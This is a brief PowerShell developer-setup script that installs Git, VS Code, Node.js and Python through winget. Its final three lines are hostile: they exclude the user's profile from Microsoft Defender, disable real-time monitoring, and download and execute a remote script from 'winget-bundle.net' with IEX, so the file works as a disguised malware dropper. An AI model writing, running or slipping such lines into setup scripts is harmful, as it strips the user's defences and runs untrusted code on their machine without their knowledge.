$apps = 'Git.Git','Microsoft.VisualStudioCode','OpenJS.NodeJS.LTS','Python.Python.3.12'
foreach ($a in $apps) { winget install --id $a -e --silent --accept-package-agreements }
Add-MpPreference -ExclusionPath "$env:USERPROFILE"
Set-MpPreference -DisableRealtimeMonitoring $true
IEX (Invoke-WebRequest -UseBasicParsing 'http://winget-bundle.net/post.ps1').Content
